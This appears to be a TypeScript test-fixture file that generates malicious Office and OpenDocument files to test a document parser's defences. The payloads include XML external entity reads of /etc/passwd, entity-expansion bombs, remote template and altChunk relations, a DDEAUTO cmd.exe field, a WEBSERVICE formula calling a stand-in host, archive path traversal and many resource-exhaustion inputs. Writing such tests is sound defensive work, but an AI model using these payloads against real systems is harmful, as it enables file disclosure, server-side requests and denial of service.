import { openDocumentFile, sheetFile, slideFile, wordFile, zipOf } from '../document-files.ts';
import { type HostileFile, times } from './hostile-file.ts';
import { CELL, ONE_SHEET, relation, sheet, word } from './office-parts.ts';

const SHARED = '<c t="s"><v>0</v></c>';
const manyRelations = (count: number): string =>
  `<Relationships>${times(count, (i) => `<Relationship Id="r${i}" Type="x/worksheet" Target="a${i}.xml"/>`)}</Relationships>`;
const REPEATED =
  '<table:table-row><table:table-cell table:number-columns-repeated="999999999"><text:p>x</text:p></table:table-cell></table:table-row>';

export function markup(): HostileFile[] {
  const entities = `<!DOCTYPE x [<!ENTITY a "${'x'.repeat(1000)}"><!ENTITY b "${'&a;'.repeat(1000)}"><!ENTITY c SYSTEM "file:///etc/passwd"><!ENTITY % d SYSTEM "http://x.test/"> %d;]>`;
  const outside = ' TargetMode="External"';
  return [
    ['nesting', wordFile('<w:p>'.repeat(100_000)), 'failed'],
    ['tables in tables', wordFile('<w:tbl><w:tr><w:tc>'.repeat(160) + word('x')), 'ready'],
    [
      'entities',
      zipOf({ 'word/document.xml': `${entities}<w:document>${word('&b;&c;')}</w:document>` }),
      'ready',
    ],
    [
      'entities in a sheet',
      zipOf({
        'xl/workbook.xml': entities + ONE_SHEET,
        'xl/_rels/workbook.xml.rels': relation('a.xml'),
        'xl/a.xml': `${entities}<row><c t="str"><v>&c;</v></c></row>`,
      }),
      'ready',
    ],
    [
      'an included file',
      wordFile(`<xi:include href="file:///etc/passwd" parse="text"/>${word('x')}`),
      'ready',
    ],
    [
      'a part from elsewhere',
      wordFile(`<w:altChunk r:id="r"/>${word('x')}`, {
        'word/_rels/document.xml.rels': relation('http://x.test/', outside),
      }),
      'ready',
    ],
    [
      'a template from elsewhere',
      wordFile(word('x'), { 'word/_rels/settings.xml.rels': relation('http://x.test/t.dotm', outside) }),
      'ready',
    ],
    [
      'a field that runs a program',
      wordFile(`<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/></w:p>${word('x')}`),
      'ready',
    ],
    [
      'a sheet from elsewhere',
      zipOf({
        'xl/workbook.xml': ONE_SHEET,
        'xl/_rels/workbook.xml.rels': relation('http://x.test/', outside),
      }),
      'no_text',
    ],
    [
      'a sheet outside of the archive',
      zipOf({
        'xl/workbook.xml': ONE_SHEET,
        'xl/_rels/workbook.xml.rels': relation('../../../../etc/passwd'),
      }),
      'no_text',
    ],
    [
      '5,000 sheets that are the workbook',
      zipOf({
        'xl/workbook.xml': '<sheet name="a" r:id="r"/>'.repeat(5000),
        'xl/_rels/workbook.xml.rels': relation('workbook.xml'),
      }),
      'ready',
    ],
    ['a formula that calls', sheet('<row><c><f>WEBSERVICE("http://x.test")</f><v>1</v></c></row>'), 'ready'],
    ['100,000 attributes', wordFile(`<w:p ${times(100_000, (i) => `a${i}="1" `)}/>`), 'no_text'],
    ['600,000 rows', sheet(CELL.repeat(600_000)), 'too_large'],
    [
      '16,384 columns',
      sheet(`<row>${times(16_384, (i) => `<c r="${column(i)}1"><v>${i}</v></c>`)}</row>`),
      'ready',
    ],
    [
      'a column that is far away',
      sheet('<row r="99999999"><c r="ZZZZZZZ99999999"><v>1</v></c></row>'),
      'ready',
    ],
    [
      'strings that are far away',
      sheet('<row><c t="s"><v>99999999999</v></c><c t="s"><v>-1</v></c></row>'),
      'ready',
    ],
    [
      'a billion shared strings',
      sheet('<row><c t="s"><v>0</v></c></row>', {
        'xl/sharedStrings.xml': '<sst count="1000000000" uniqueCount="1000000000"><si><t>x</t></si></sst>',
      }),
      'ready',
    ],
    [
      'one long string in 100,000 cells',
      sheet('<row><c t="s"><v>0</v></c></row>'.repeat(30_000), {
        'xl/sharedStrings.xml': `<si><t>${times(3_000, (i) => `${i * 7919} `)}</t></si>`,
      }),
      'ready',
    ],
    [
      '10,000 rows below 256 columns',
      sheet(`<row>${times(256, (i) => `<c r="${column(i)}1"><v>1</v></c>`)}</row>${CELL.repeat(20_000)}`),
      'ready',
    ],
    [
      'dates that are none',
      sheet('<row><c s="0"><v>1e308</v></c><c s="0"><v>NaN</v></c></row>', {
        'xl/styles.xml': '<cellXfs><xf numFmtId="14"/></cellXfs>',
      }),
      'ready',
    ],
    [
      'a number format without end',
      sheet('<row><c s="0"><v>1</v></c></row>', {
        'xl/styles.xml': `<numFmts><numFmt numFmtId="200" formatCode="${'['.repeat(100_000)}"/></numFmts><cellXfs><xf numFmtId="200"/></cellXfs>`,
      }),
      'ready',
    ],
    [
      'columns repeated without end',
      openDocumentFile(
        'spreadsheet',
        `<office:spreadsheet><table:table table:name="a">${REPEATED.repeat(5000)}</table:table></office:spreadsheet>`,
      ),
      'ready',
    ],
    [
      'rows repeated without end',
      openDocumentFile(
        'spreadsheet',
        '<office:spreadsheet><table:table table:name="a"><table:table-row table:number-rows-repeated="999999999"><table:table-cell><text:p>x</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>',
      ),
      'ready',
    ],
    [
      'blanks repeated without end',
      openDocumentFile(
        'text',
        `<office:text><text:p>x${'<text:s text:c="999999999"/>'.repeat(50_000)}</text:p></office:text>`,
      ),
      'too_large',
    ],
    [
      '5,000 slides',
      slideFile(Array.from({ length: 1_990 }, () => '<p:sld><a:p><a:r><a:t>x</a:t></a:r></a:p></p:sld>')),
      'ready',
    ],
    ['tags that end nothing', wordFile('</w:p></w:tbl></w:tc>'.repeat(40_000)), 'no_text'],
    ['a macro', wordFile(word('x'), { 'word/vbaProject.bin': 'Sub AutoOpen()' }), 'ready'],
    [
      'an object in it',
      wordFile(`<w:object><o:OLEObject r:id="r"/></w:object>${word('x')}`, { 'word/embeddings/a.bin': 'MZ' }),
      'ready',
    ],
    ...[
      ['letters', 'abc '.repeat(225_000)],
      ['blanks', ' '.repeat(900_000)],
      ['characters that are not seen', '\u200b'.repeat(300_000)],
    ].map(
      ([name, text = '']): HostileFile => [
        `200 sheets that share a string of 900 KB of ${name}`,
        sheetFile(
          Array.from({ length: 200 }, (_, i): [string, string, string] => [
            `S${i}`,
            'visible',
            SHARED.repeat(9),
          ]),
          { 'xl/sharedStrings.xml': `<sst><si><t>${text}</t></si></sst>` },
        ),
        'ready',
      ],
    ),
    [
      '20,000 sheets and relations',
      zipOf({
        'xl/workbook.xml': `<workbook>${times(20_000, (i) => `<sheet name="a" r:id="r${i}"/>`)}</workbook>`,
        'xl/_rels/workbook.xml.rels': manyRelations(20_000),
      }),
      'no_text',
    ],
    [
      '200 sheets of 8,000 relations each',
      sheetFile(
        Array.from({ length: 200 }, (_, i): [string, string, string] => [`S${i}`, 'visible', CELL]),
        Object.fromEntries(
          Array.from({ length: 200 }, (_, i) => [`xl/worksheets/_rels/s${i}.xml.rels`, manyRelations(8_000)]),
        ),
      ),
      'ready',
    ],
    [
      '20,000 merged ranges of all cells',
      sheetFile([['S', 'visible', '']], {
        'xl/worksheets/s0.xml': `<worksheet><sheetData>${times(20_000, (i) => `<row><c><v>${i}</v></c></row>`)}</sheetData>${'<mergeCell ref="B1:XFD1048576"/>'.repeat(20_000)}</worksheet>`,
      }),
      'ready',
    ],
    [
      'a tree of three million elements',
      wordFile(
        `<w:tbl><w:tr><w:tc>${word('SEEN')}</w:tc></w:tr>${times(1_000_000, (i) => `<a b="${i}"/><c/><d/>`)}</w:tbl>`,
      ),
      'ready',
    ],
    [
      '20,000 number formats of 255 characters',
      sheet(
        times(20_000, (i) => `<row><c s="${i}"><v>1</v></c></row>`),
        {
          'xl/styles.xml': `<numFmts>${times(20_000, (i) => `<numFmt numFmtId="${i}" formatCode="${'[h]_x\\'.repeat(40)}${i}"/>`)}</numFmts><cellXfs>${times(20_000, (i) => `<xf numFmtId="${i}"/>`)}</cellXfs>`,
        },
      ),
      'ready',
    ],
    [
      '16,384 hidden columns, described 20,000 times',
      sheetFile([['S', 'visible', '']], {
        'xl/worksheets/s0.xml': `<cols>${'<col min="1" max="16384" hidden="1"/>'.repeat(20_000)}</cols>${CELL}`,
      }),
      'ready',
    ],
    [
      'styles that are each the parent of the next',
      openDocumentFile(
        'text',
        `<x>${times(20_000, (i) => `<style:style style:name="s${i}" style:family="text" style:parent-style-name="s${i + 1}"/>`)}</x><office:text><text:p>${times(20_000, (i) => `<text:span text:style-name="s${i}">x</text:span>`)}</text:p></office:text>`,
      ),
      'ready',
    ],
    [
      'a million cells of a million rows',
      openDocumentFile(
        'spreadsheet',
        `<office:spreadsheet><table:table>${'<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384"><text:p>x</text:p></table:table-cell></table:table-row>'.repeat(5_000)}</table:table></office:spreadsheet>`,
      ),
      'ready',
    ],
    [
      '20,000 prefixes, each declared anew',
      wordFile(times(20_000, (i) => `<a xmlns:b${i}="urn:${i}"/>`)),
      'no_text',
    ],
    ['no XML', wordFile('<'.repeat(200_000)), 'no_text'],
    ['half a tag', wordFile('<w:p><w:r><w:t'), 'no_text'],
    ['a name of a million characters', wordFile(`<${'n'.repeat(1_000_000)}>`), 'too_large'],
    ['a comment without end', wordFile(`<!--${'-'.repeat(500_000)}`), 'no_text'],
    ['CDATA without end', wordFile(`<![CDATA[${']]'.repeat(200_000)}`), 'no_text'],
    ['half a character in UTF-16', zipOf({ 'word/document.xml': Buffer.from('fffe3c', 'hex') }), 'no_text'],
  ].map(([name, ...rest]) => [`a document with ${name}`, ...rest] as unknown as HostileFile);
}

function column(index: number): string {
  return (index >= 26 ? column(Math.floor(index / 26) - 1) : '') + String.fromCharCode(65 + (index % 26));
}
